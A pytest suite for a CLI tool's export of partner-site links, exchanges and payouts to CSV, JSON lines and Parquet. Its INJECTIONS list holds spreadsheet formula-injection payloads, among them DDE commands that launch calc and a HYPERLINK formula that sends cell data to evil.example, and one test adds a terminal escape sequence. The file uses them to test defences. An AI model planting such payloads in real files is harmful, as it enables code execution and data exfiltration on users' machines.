"""`ppapi export`: each format has what the sites' books have, exactly, or no file is there."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import signal
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text as sql_text

from ppapi_async import Dialect
from ppapi_async.accounts_file import load_accounts
from ppapi_async.cli import progress
from ppapi_async.cli.commands import export as export_module
from ppapi_async.cli.exporting import sources, texts
from ppapi_async.cli.exporting.columns import export_columns
from ppapi_async.cli.exporting.formats import CsvRows
from ppapi_async.cli.exporting.texts import LocalTimes, defuse, quoted, restore
from ppapi_async.mirror import Mirror
from ppapi_async.mirror.store import MirrorStore
from ppapi_async.mirror.types import escape, instant_text, unescape
from ppapi_async.models import Exchange, Link, Payout
from ppapi_async.sandbox import Books, Fault, Order, Partner, Sandbox
from ppapi_async.transport.retry import Retry
from tests.cli.sites import running, write_accounts
from tests.cli.terminal import Terminal, ppapi
from tests.leaks import assert_absent
from tests.mirror.tables import NOON, connected, put_account, put_exchange, put_link, put_payout

RESOURCES = ("links", "exchanges", "payouts")
SOURCES = ("copy", "live")
FORMATS = ("csv", "jsonl", "parquet")
KEY = "k3y" * 11 + "xy"
INJECTIONS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''@x",
    "Mozilla/5.0 (X11;=1+1)",
    "a;'+1",
    "a\n-1",
    "harmless, \"quoted\"; and 'so' on",
    "2026-11-28 = today",
    "",
)


@pytest.fixture(scope="module")
def sites() -> Iterator[dict[str, Sandbox]]:
    """Serve a site of each age, in different zones, with keys of their own in rows."""
    one = Sandbox(Dialect.CLASSIC, rows=40, seed=3, api_key=KEY, timezone="Europe/Moscow")
    two = Sandbox(Dialect.DELEGATING, rows=30, seed=4, timezone="Asia/Kolkata", own_keys=True)
    with running(one, two):
        yield {"one": one, "two": two}


@pytest.fixture(scope="module")
def copy(sites: dict[str, Sandbox], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Copy the sites into a file."""
    folder = tmp_path_factory.mktemp("copy")
    accounts = load_accounts(write_accounts(folder / "accounts.toml", sites))

    async def sync() -> None:
        async with Mirror(f"sqlite:///{folder / 'partner.db'}", accounts) as mirror:
            assert not (await mirror.sync()).failed

    asyncio.run(sync())
    return folder / "partner.db"


@pytest.fixture(autouse=True)
def accounts_file(sites: dict[str, Sandbox], home: Path) -> None:
    """Write the accounts file."""
    write_accounts(home / "config" / "ppapi" / "accounts.toml", sites)


@pytest.fixture(autouse=True)
def no_waits(monkeypatch: pytest.MonkeyPatch) -> None:
    """Repeat nothing, so that nothing waits."""
    monkeypatch.setattr(sources, "_RETRY", Retry(attempts=1))


def truth(books: Books, resource: str, *, edited: bool) -> dict[int, dict[str, object]]:
    """Return what the books have, by id and column; `edited`: times of orders are of that."""
    if resource == "links":
        return {
            one.id: {"time": one.created, "ip": one.ip, "user_hash": one.user_hash}
            for one in books.links_in()
        }
    if resource == "payouts":
        return {
            one.id: {
                "time": one.created,
                "wallet": one.account,
                "method_id": one.method_id,
                "pay_amount": one.pay_amount,
                "original_amount": one.original_amount,
                "status": str(one.status),
                "pay_currency_code": one.pay_currency,
            }
            for one in books.payouts_in()
        }
    return {
        one.id: {
            "time": one.edited if edited else one.created,
            "amount_give": one.amount_give,
            "amount_get": one.amount_get,
            "partner_reward": one.reward,
            "accrued": one.accrued,
            "exchange_success": one.success,
            "currency_code_give": one.currency_give,
        }
        for one in books.exchanges_in()
    }


def read(path: Path) -> list[dict[str, object]]:
    """Read a file back with what others made for its format."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as file:
            return [{**row} for row in csv.DictReader(file, strict=True)]
    if path.suffix == ".jsonl":
        with path.open(encoding="utf-8", newline="\n") as file:
            return [json.loads(line) for line in file]
    rows: list[dict[str, object]] = pq.read_table(path).to_pylist()
    return rows


def as_true(value: object, wanted: object) -> object:
    """Return a value of any format as the books have it."""
    match wanted:
        case bool():
            return {"true": True, "false": False}.get(str(value).lower())
        case int() if isinstance(value, datetime):
            return value.timestamp()
        case int():
            text = str(value)
            return datetime.fromisoformat(text).timestamp() if "T" in text else int(text)
        case _ if isinstance(value, Decimal):
            return f"{value.normalize():f}"
        case _:
            return restore(str(value))


@pytest.mark.untraced
@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize("resource", RESOURCES)
def test_a_file_has_what_the_books_have(
    sites: dict[str, Sandbox], copy: Path, resource: str, source: str, format_: str
) -> None:
    """Every row once, amounts to the last digit, instants true, in every format."""
    path = Path(f"rows.{format_}")
    where = ["--live"] if source == "live" else ["--from", str(copy)]
    ran = ppapi("export", resource, *where, "--out", str(path))
    assert (ran.code, ran.out) == (0, ""), ran.err
    rows = read(path)
    assert f"wrote {len(rows):,} {resource} to {path}" in ran.err
    for name, site in sites.items():
        books = truth(site.books, resource, edited=site.dialect is Dialect.DELEGATING)
        mine = [row for row in rows if row["account"] == name]
        assert len(mine) == len(books) > 0
        for row in mine:
            wanted = books[int(str(row["id"]))]
            assert {key: as_true(row[key], one) for key, one in wanted.items()} == wanted
    columns = [one.name for one in export_columns(resource, from_mirror=source == "copy")]
    assert list(rows[0]) == columns
    assert_absent(KEY, ran.err, path.read_bytes())
    assert [one.name for one in Path.cwd().iterdir()] == [path.name]


def test_columns_are_those_of_the_records() -> None:
    """By their names, but `wallet`, which is `account` in a payout; a history is no column."""
    for resource, kind in (("links", Link), ("exchanges", Exchange), ("payouts", Payout)):
        names = [one.name for one in export_columns(resource, from_mirror=False)]
        own = [one.name for one in kind.__attrs_attrs__ if one.name != "statuses"]
        assert names == ["account", *("wallet" if one == "account" else one for one in own)]
        with_noted = [one.name for one in export_columns(resource, from_mirror=True)]
        assert with_noted == [*names, "first_seen", "changed_at", "gone_at"]


def test_times_are_in_the_zone_of_the_account(copy: Path) -> None:
    """With its offset; or in UTC."""
    ran = ppapi("export", "exchanges", "--from", str(copy))
    offsets = {(row["account"], row["time"][-6:]) for row in csv.DictReader(io.StringIO(ran.out))}
    assert offsets == {("one", "+03:00"), ("two", "+05:30")}
    ran = ppapi("export", "exchanges", "--from", str(copy), "--utc", "--format", "jsonl")
    assert {json.loads(line)["time"][-6:] for line in ran.out.splitlines()} == {"+00:00"}


def test_rows_of_a_mirror_are_in_order_of_time(copy: Path) -> None:
    """Over all accounts."""
    ran = ppapi("export", "links", "--from", str(copy), "--utc")
    times = [row["time"] for row in csv.DictReader(io.StringIO(ran.out))]
    assert times == sorted(times)


@pytest.mark.parametrize("source", SOURCES)
def test_rows_are_chosen_by_time_and_account(
    sites: dict[str, Sandbox], copy: Path, source: str
) -> None:
    """From a moment on, before another, of one account."""
    books = sites["two"].books
    times = sorted(one.edited for one in books.exchanges_in())
    since, until = (datetime.fromtimestamp(one, UTC).isoformat() for one in (times[5], times[20]))
    where = ["--live"] if source == "live" else ["--from", str(copy)]
    ran = ppapi(
        "export", "exchanges", *where, "--since", since, "--until", until, "--account", "two"
    )
    rows = list(csv.DictReader(io.StringIO(ran.out)))
    found = [one.id for one in books.exchanges_in() if times[5] <= one.edited < times[20]]
    assert sorted(int(row["id"]) for row in rows) == sorted(found)
    assert {row["account"] for row in rows} == {"two"}


@pytest.mark.untraced
def test_keys_of_a_sites_own_are_json(copy: Path) -> None:
    """In a column of their own, a text of JSON in CSV and Parquet, an object in JSON lines."""
    wanted = {"site_note": "", "rating": 5, "flags": {"vip": "0"}, "tags": []}
    for format_ in FORMATS:
        path = Path(f"rows.{format_}")
        ppapi("export", "exchanges", "--from", str(copy), "--out", str(path))
        by_name = {row["account"]: row["extra"] for row in read(path)}
        extra = by_name["two"]
        assert (json.loads(extra) if isinstance(extra, str) else extra) == wanted
        assert by_name["one"] == {"csv": "", "jsonl": {}, "parquet": None}[format_]


@pytest.fixture
def odd_copy(mirror_url: str) -> str:
    """Fill a mirror, in both databases, with what is seldom."""
    asyncio.run(_make(mirror_url))
    with connected(mirror_url) as connection:
        put_account(connection, 1, "one")
        put_account(connection, 2, "dva␛")
        for number, text in enumerate(INJECTIONS):
            put_link(connection, number, NOON, referrer=text, query_string="a\0\ud800␛")
        extra = {"fee": Decimal("0.10"), "=x": "я", "list": [Decimal("1E+2")]}
        put_exchange(connection, 1, "0.000000000001", extra=extra, accrued=True)
        put_exchange(connection, 2, "-1.50", account=2, gone_at=NOON + timedelta(microseconds=5))
        put_exchange(connection, 3, "2", time=datetime.min.replace(tzinfo=UTC))
        put_payout(connection, 5, "12345678901234567890123456789.12")
    return mirror_url


async def _make(url: str) -> None:
    await (await MirrorStore.open(url)).aclose()


def test_formulas_are_defused_and_texts_come_back(odd_copy: str) -> None:
    """Nothing that a spreadsheet runs is left, and the documented rule gives the texts back."""
    ran = ppapi("export", "links", "--from", odd_copy)
    assert "\r\n" in ran.out
    rows = list(csv.DictReader(io.StringIO(ran.out, newline=""), strict=True))
    cells = [row["referrer"] for row in rows]
    assert [restore(cell) for cell in cells] == list(INJECTIONS)
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n")[:7] and cell]
    assert {row["query_string"] for row in rows} == {"a␛0000␛d800␛241b"}
    raw = ppapi("export", "links", "--from", odd_copy, "--raw")
    rows = list(csv.DictReader(io.StringIO(raw.out, newline=""), strict=True))
    assert [row["referrer"] for row in rows] == list(INJECTIONS)


def test_json_has_any_text_as_it_is(odd_copy: str) -> None:
    """U+0000 and halves of surrogate pairs, too, and amounts among unknown keys as texts."""
    ran = ppapi("export", "links", "--from", odd_copy, "--format", "jsonl")
    rows = [json.loads(line) for line in ran.out.splitlines()]
    assert {row["query_string"] for row in rows} == {"a\0\ud800␛"}
    ran = ppapi("export", "exchanges", "--from", odd_copy, "--format", "jsonl")
    [row] = [one for one in map(json.loads, ran.out.splitlines()) if one["id"] == 1]
    assert row["extra"] == {"fee": "0.10", "=x": "я", "list": ["100"]}
    assert (row["accrued"], row["partner_reward"]) == (True, "0.000000000001")


def test_what_is_gone_is_left_out(odd_copy: str) -> None:
    """Unless it is asked for; then `gone_at` says since when."""
    ran = ppapi("export", "exchanges", "--from", odd_copy, "--format", "jsonl")
    assert [json.loads(line)["id"] for line in ran.out.splitlines()] == [3, 1]
    ran = ppapi("export", "exchanges", "--from", odd_copy, "--format", "jsonl", "--gone")
    rows = [json.loads(line) for line in ran.out.splitlines()]
    assert rows[-1]["id"] == 2
    assert (rows[-1]["account"], rows[-1]["partner_reward"]) == ("dva␛", "-1.50")
    assert rows[-1]["gone_at"] == "2026-01-31T12:00:00.000005+00:00"
    assert rows[0]["time"] == "0001-01-01T00:00:00+00:00"


def test_a_mirror_says_how_far_it_is(odd_copy: str, copy: Path) -> None:
    """What was never caught up is named."""
    ran = ppapi("export", "payouts", "--from", odd_copy)
    assert "not all of one, dva␛ has been copied yet; run 'ppapi sync'" in ran.err
    ran = ppapi("export", "payouts", "--from", str(copy))
    assert "the copy is as of " in ran.err
    assert "unreadable" not in ran.err


def test_a_zone_may_be_unknown_here(odd_copy: str) -> None:
    """Where another machine has written the copy: its times are in UTC then, which is told."""
    with connected(odd_copy) as connection:
        connection.execute(
            sql_text("UPDATE accounts SET timezone = 'Mars/Olympus' WHERE name = 'one'")
        )
    ran = ppapi("export", "payouts", "--from", odd_copy, "--format", "jsonl")
    assert "one: its zone Mars/Olympus is unknown here; its times are in UTC" in ran.err
    assert json.loads(ran.out)["time"] == "2026-01-31T12:00:00+00:00"


def test_rows_that_cannot_be_read_are_named(odd_copy: str) -> None:
    """A mirror has noted them, and no file can have them."""
    from sqlalchemy import insert

    from ppapi_async.mirror.schema import unreadable

    row = {"account": 1, "resource": "payouts", "digest": "x", "problems": []}
    with connected(odd_copy) as connection:
        connection.execute(insert(unreadable), [row | {"first_seen": NOON, "last_seen": NOON}])
    ran = ppapi("export", "payouts", "--from", odd_copy)
    assert "one: the site lists 1 rows that cannot be read, and are not there" in ran.err
    assert "cannot be read" not in ppapi("export", "links", "--from", odd_copy).err


def test_amounts_in_parquet_are_never_rounded(odd_copy: str) -> None:
    """One that does not fit is told, with the way out, and no file is there."""
    ran = ppapi("export", "payouts", "--from", odd_copy, "--out", "rows.parquet")
    assert ran.code == 1
    assert (
        "one: pay_amount of 5 is 12345678901234567890123456789.12, which does not fit 20 digits"
        " before and 18 behind the point, and is not rounded; export to csv or jsonl, or pass"
        " --wide-amounts"
    ) in ran.err
    assert not [one for one in Path.cwd().iterdir() if "parquet" in one.name]
    ran = ppapi("export", "payouts", "--from", odd_copy, "--out", "a.parquet", "--wide-amounts")
    assert ran.code == 0
    table = pq.read_table("a.parquet")
    assert table.schema.field("pay_amount").type == pa.decimal256(76, 38)
    [row] = table.to_pylist()
    assert row["pay_amount"] == Decimal("12345678901234567890123456789.12")
    with connected(odd_copy) as connection:
        put_payout(connection, 6, "1" * 39)
    ran = ppapi("export", "payouts", "--from", odd_copy, "--out", "b.parquet", "--wide-amounts")
    assert ran.code == 1
    assert ran.err.endswith("export to csv or jsonl\n")


def test_the_schema_of_parquet_is_always_the_same(copy: Path) -> None:
    """Amounts, instants and flags have types, whatever rows there are, even none."""
    ppapi("export", "exchanges", "--from", str(copy), "--until", "2001-01-01", "--out", "a.parquet")
    ppapi("export", "exchanges", "--from", str(copy), "--out", "b.parquet")
    empty, full = pq.read_table("a.parquet"), pq.read_table("b.parquet")
    assert empty.num_rows == 0
    assert empty.schema == full.schema
    assert full.schema.field("partner_reward").type == pa.decimal128(38, 18)
    assert full.schema.field("time").type == pa.timestamp("us", "UTC")
    assert full.schema.field("accrued").type == pa.bool_()


def test_many_rows_are_written_group_by_group(copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """So that memory does not grow with the file."""
    from ppapi_async.cli.exporting import parquet
    from ppapi_async.mirror import read_only

    monkeypatch.setattr(parquet, "_GROUP", 20)
    monkeypatch.setattr(read_only, "_PIECE", 7)
    assert ppapi("export", "exchanges", "--from", str(copy), "--out", "a.parquet").code == 0
    groups = pq.ParquetFile("a.parquet").metadata
    assert [groups.row_group(index).num_rows for index in range(3)] == [21, 21, 21]
    assert groups.num_rows == 70


def test_a_file_may_begin_with_excels_mark(copy: Path) -> None:
    """CSV in UTF-8 as Excel knows it."""
    ppapi("export", "payouts", "--from", str(copy), "--out", "a.csv", "--bom")
    assert Path("a.csv").read_bytes().startswith(b"\xef\xbb\xbfaccount,id,")


@pytest.mark.parametrize(
    ("name", "begins"), [("x.CSV", b"account,"), ("x.ndjson", b"{"), ("x.parquet", b"PAR1")]
)
def test_the_format_is_guessed(copy: Path, name: str, begins: bytes) -> None:
    """By the name of the file."""
    assert ppapi("export", "links", "--from", str(copy), "--out", name).code == 0
    assert Path(name).read_bytes().startswith(begins)


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ("orders", "'orders' is not one of"),
        ("links --out x.xlsx", "its name tells no format; pass --format csv, jsonl or parquet"),
        ("links --partial", "--partial: goes with --live"),
        ("links --live --gone", "--gone: sites do not list what is gone"),
        ("links --account onne", "there is no account 'onne' in the copy; did you mean 'one'?"),
        ("links --live --account x", "there is no account 'x'; 'ppapi list' shows them"),
        ("links --since yesterday", "'yesterday' is none"),
        ("links --live --since 1d --until 2d", "--since must be before --until"),
    ],
)
def test_misuse_is_told(
    copy: Path, monkeypatch: pytest.MonkeyPatch, arguments: str, said: str
) -> None:
    """Before anything is asked or written."""
    monkeypatch.setenv("PPAPI_MIRROR", str(copy))
    ran = ppapi("export", *arguments.split())
    assert ran.code == 2
    assert said in ran.err
    assert ran.out == ""


def test_there_is_no_copy(monkeypatch: pytest.MonkeyPatch) -> None:
    """Which is told with the way to one."""
    ran = ppapi("export", "links", "--from", "none.db")
    assert ran.code == 1
    assert "there is no such file" in ran.err


def test_parquet_needs_pyarrow(monkeypatch: pytest.MonkeyPatch) -> None:
    """The extra is named."""
    monkeypatch.setattr(export_module, "find_spec", lambda name: None)
    ran = ppapi("export", "links", "--format", "parquet")
    assert ran.code == 2
    assert "pip install 'ppapi-async[parquet]'" in ran.err


@pytest.mark.parametrize("fault", [Fault.HTML_500, Fault.KEY_ECHO])
def test_what_is_incomplete_is_not_put_in_place(sites: dict[str, Sandbox], fault: Fault) -> None:
    """What stood there stays, the other account's rows are not written, and no key is told."""
    Path("rows.csv").write_text("before", "utf-8")
    site = Sandbox(Dialect.CLASSIC, rows=10, api_key=KEY)
    site.faults.add(fault, method="get_payouts", times=None)
    with running(site):
        write_accounts(Path("accounts.toml"), {**sites, "bad": site})
        live = ["export", "payouts", "--live", "--accounts", "accounts.toml"]
        ran = ppapi(*live, "--out", "rows.csv")
        assert ran.code == 1, ran.err
        assert "not all of 1 of 3 accounts could be read, so rows.csv was not written" in ran.err
        assert "\nbad: get_payouts: " in f"\n{ran.err}"
        assert "ppapi doctor bad" in ran.err
        assert Path("rows.csv").read_text("utf-8") == "before"
        piped = ppapi(*live)
        assert piped.code == 1
        assert "what was written is incomplete" in piped.err
        partly = ppapi(*live, "--out", "rows.csv", "--partial")
    assert partly.code == 3
    assert {row["account"] for row in read(Path("rows.csv"))} == {"one", "two"}
    assert_absent(KEY, ran.err, piped.err, piped.out, partly.err)


def test_rows_that_a_site_garbles_are_not_passed_over(sites: dict[str, Sandbox]) -> None:
    """The account fails; with --partial they are named, and all others written."""

    def garble(method: str, row: dict[str, object]) -> dict[str, object]:
        return {**row, "amount_give": "x"} if row["id"] == "7" else row

    site = Sandbox(Dialect.CLASSIC, rows=30, seed=3, api_key=KEY, row_filter=garble)
    with running(site):
        write_accounts(Path("accounts.toml"), {"bad": site})
        live = ["export", "exchanges", "--live", "--accounts", "accounts.toml", "--out", "r.csv"]
        ran = ppapi(*live)
        partly = ppapi(*live, "--partial")
    assert ran.code == 1
    assert "amount_give" in ran.err
    assert partly.code == 3
    assert "bad: 1 rows cannot be read and are missing: 7" in partly.err
    assert len(read(Path("r.csv"))) == 29


def test_what_cannot_be_proven_complete_has_a_code_of_its_own() -> None:
    """A second of which the site may list a part only; --partial writes what was read."""
    at = int(time.time()) - 3600
    crowd = [Order(id=one, created=at) for one in range(1, 41)]
    before = [Order(id=one, created=at - 60 * one) for one in range(100, 110)]
    books = Books(partner=Partner(api_key=KEY), orders=[*before, *crowd])
    with running(site := Sandbox(Dialect.DELEGATING, books=books, cap=20, honours_offset=False)):
        write_accounts(Path("accounts.toml"), {"one": site})
        live = ["export", "exchanges", "--live", "--accounts", "accounts.toml", "--out", "r.csv"]
        ran = ppapi(*live)
        assert not Path("r.csv").exists()
        partly = ppapi(*live, "--partial")
    assert (ran.code, partly.code) == (3, 3)
    assert "cannot prove that all rows came" in ran.err
    assert Path("r.csv").exists()
    assert_absent(KEY, ran.err, partly.err)


def test_keys_that_sites_refuse_have_a_code_of_their_own(sites: dict[str, Sandbox]) -> None:
    """Where all that failed is that."""
    text = Path(write_accounts(Path("accounts.toml"), {"one": sites["one"]})).read_text("utf-8")
    Path("accounts.toml").write_text(text.replace(KEY, "z" * 35), "utf-8")
    ran = ppapi("export", "payouts", "--live", "--accounts", "accounts.toml")
    assert ran.code == 5


def test_a_disk_that_is_full_is_told(copy: Path) -> None:
    """Which writing to this device says."""
    ran = ppapi("export", "links", "--from", str(copy), "--out", "/dev/full", "--format", "csv")
    assert ran.code == 1
    assert "ppapi export: /dev/full: No space left on device" in ran.err


def test_a_full_disk_leaves_nothing(copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither a part of the file nor one beside it."""

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    ran = ppapi("export", "links", "--from", str(copy), "--out", "rows.csv")
    assert ran.code == 1
    assert "rows.csv: No space left on device; nothing was put there" in ran.err
    assert list(Path.cwd().iterdir()) == []


def test_a_folder_that_is_not_there(copy: Path) -> None:
    """Is told by name."""
    ran = ppapi("export", "links", "--from", str(copy), "--out", "no/rows.csv")
    assert ran.code == 1
    assert "no/rows.csv: No such file or directory" in ran.err


def test_links_and_modes_stay(copy: Path) -> None:
    """The file that a link leads to is replaced, with the mode that it had."""
    Path("real.csv").write_text("before", "utf-8")
    Path("real.csv").chmod(0o640)
    Path("rows.csv").symlink_to("real.csv")
    assert ppapi("export", "links", "--from", str(copy), "--out", "rows.csv").code == 0
    assert Path("rows.csv").is_symlink()
    assert Path("real.csv").stat().st_mode & 0o777 == 0o640
    assert read(Path("real.csv"))


def test_interrupted_it_leaves_nothing(copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By Ctrl-C or SIGTERM amid writing: what stood there stays, and the code is 130."""
    Path("rows.csv").write_text("before", "utf-8")
    monkeypatch.setattr(CsvRows, "write", lambda self, rows: os.kill(os.getpid(), signal.SIGTERM))
    ran = ppapi("export", "links", "--from", str(copy), "--out", "rows.csv")
    assert ran.code == 130
    assert [one.name for one in Path.cwd().iterdir()] == ["rows.csv"]
    assert Path("rows.csv").read_text("utf-8") == "before"


def test_on_a_terminal_a_file_is_named_and_written(copy: Path) -> None:
    """Rows are no use on a terminal; nothing of the progress is left there."""
    with Terminal("export", "exchanges", "--from", str(copy), columns=200) as terminal:
        assert terminal.end() == 0
        text = terminal.text
    [path] = Path.cwd().glob("exchanges-*.csv")
    assert f"writing to {path.name}; --out names another file, --out - shows the rows here" in text
    assert f"wrote 70 exchanges to {path.name}" in text
    assert len(read(path)) == 70


def test_rows_do_nothing_to_a_terminal(odd_copy: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where they are asked for there; a Parquet file is not."""
    with connected(odd_copy) as connection:
        put_link(connection, 99, NOON, browser="\x1b[2J\u202eevil")
    from ppapi_async.cli.exporting import writing

    monkeypatch.setattr(writing, "is_terminal", lambda **_: True)
    monkeypatch.setattr(export_module, "is_terminal", lambda **_: True)
    for format_ in ("csv", "jsonl"):
        ran = ppapi("export", "links", "--from", odd_copy, "--out", "-", "--format", format_)
        assert ran.code == 0
        assert "\x1b" not in ran.out
        assert "\u202e" not in ran.out
        assert "evil" in ran.out
    ran = ppapi("export", "links", "--from", odd_copy, "--out", "-", "--format", "parquet")
    assert ran.code == 2
    assert "is nothing to look at" in ran.err


def test_parquet_goes_through_pipes(copy: Path) -> None:
    """Which cannot be told where they are; shells hand them out by such names, too."""
    ours, theirs = os.pipe()
    with os.fdopen(ours, "rb") as pipe, os.fdopen(theirs, "wb") as other:
        out = ["--out", f"/dev/fd/{other.fileno()}", "--format", "parquet"]
        ran = ppapi("export", "payouts", "--from", str(copy), *out)  # a pipe holds that much
        other.close()
        content = pipe.read()
    assert ran.code == 0, ran.err
    assert pq.read_table(pa.BufferReader(content)).num_rows > 0


def test_progress_is_told(copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A line now and then where no person looks; as every command tells it."""
    monkeypatch.setattr(progress, "_SELDOM", -1.0)
    ran = ppapi("export", "links", "--from", str(copy), "--out", "a.csv")
    assert re.search(
        r"^links of 20\d\d-\d\d, [\d,]+ rows, [\d,]+ rows/s, 0 s …$", ran.err, re.MULTILINE
    )


def test_progress_on_a_terminal(copy: Path) -> None:
    """Bars, which are gone in the end; not among rows that are printed there."""
    with Terminal("export", "links", "--from", str(copy), "--out", "a.csv") as terminal:
        assert terminal.end() == 0
        assert "rows/s" in terminal.text
    with Terminal("export", "links", "--from", str(copy), "--out", "-") as terminal:
        assert terminal.end() == 0
        assert "rows/s" not in terminal.text


def test_seldom_times() -> None:
    """The first year has no hour before its first, and an hour of a zone may be cut in pieces."""
    times = LocalTimes({"one": ZoneInfo("America/New_York"), "two": ZoneInfo("Asia/Kolkata")})
    assert times.text("one", "0001-01-01 00:30:00.000000") == "0001-01-01T00:30:00+00:00"
    assert times.text("two", "2026-11-28 23:45:00.000001") == "2026-11-29T05:15:00.000001+05:30"


def test_hours_that_are_known_take_little(monkeypatch: pytest.MonkeyPatch) -> None:
    """However long the time is that rows are of."""
    monkeypatch.setattr(texts, "_MOST_HOURS", 2)
    times = LocalTimes({"one": ZoneInfo("Europe/Moscow")})
    for hour in range(9):
        shown = times.text("one", f"2026-11-28 0{hour}:30:01.000000")
        assert shown == f"2026-11-28T{hour + 3:02}:30:01+03:00"


@given(st.text(st.sampled_from("=+-@'\";, \t\r\nab\uff1dя0")))
def test_any_text_comes_back(text: str) -> None:
    """By the documented rule; and no cell begins with what is run, however it is split."""
    defused = defuse(text)
    assert restore(defused) == text
    for separator in (";", "\t", "\r", "\n"):
        for cell in defused.split(separator):
            if cell:
                assert cell[0] not in "=+-@\uff1d"


@given(st.lists(st.text(), min_size=1, max_size=9))
def test_any_row_of_csv_comes_back(found: list[str]) -> None:
    """Read by Python's csv, by the documented rules for formulas and for odd characters."""
    columns = export_columns("links", from_mirror=False)
    place = [one.name for one in columns].index("query_string")
    row: list[object] = ["one", 1, "2026-11-28 12:00:00.000000", *[""] * (len(columns) - 3)]
    rows = [[*row[:place], escape(text), *row[place + 1 :]] for text in found]
    file = io.BytesIO()
    CsvRows(file, columns, {"one": ZoneInfo("UTC")}).write(rows)
    lines = io.StringIO(file.getvalue().decode(), newline="")
    read_back = list(csv.DictReader(lines, strict=True))
    assert [unescape(restore(one["query_string"])) for one in read_back] == found


@given(st.text())
def test_cells_are_quoted_as_csv_has_it(text: str) -> None:
    """As Python's own writer does it, beside other cells."""
    file = io.StringIO(newline="")
    csv.writer(file, lineterminator="\r\n").writerow(["a", text])
    assert f"a,{quoted(text)}\r\n" == file.getvalue()


@given(st.datetimes(), st.sampled_from(
    ["UTC", "Europe/Moscow", "Asia/Kolkata", "Australia/Lord_Howe", "America/St_Johns"]
))  # fmt: skip
def test_local_times_are_those_of_the_zone(naive: datetime, name: str) -> None:
    """In any zone, whatever its offset, by the same rules as datetime's own."""
    instant, zone = naive.replace(tzinfo=UTC), ZoneInfo(name)
    try:
        wanted = instant.astimezone(zone).isoformat()
    except OverflowError:
        wanted = instant.isoformat()
    times = LocalTimes({"one": zone})
    assert times.texts(["one"] * 3, [instant_text(instant), None, instant_text(instant)]) == [
        wanted,
        None,
        wanted,
    ]


PAGE = Path(__file__).parents[2] / "docs" / "command-line" / "export.md"


def test_the_page_says_the_columns_and_the_way_back() -> None:
    """And each test that it names is there."""
    page = PAGE.read_text("utf-8")
    for resource in RESOURCES:
        names = ", ".join(one.name for one in export_columns(resource, from_mirror=True))
        assert f"| {resource} | {names} |" in page
    [code] = re.findall(r"```python\n(.*?)```", page, re.DOTALL)
    for text in INJECTIONS:
        known: dict[str, object] = {"cell": defuse(text)}
        exec(code, known)  # as who reads the page would
        assert known["text"] == text
    named = re.findall(r"`tests/cli/test_export\.py::(\w+)`", page)
    assert named
    assert set(named) <= set(globals())
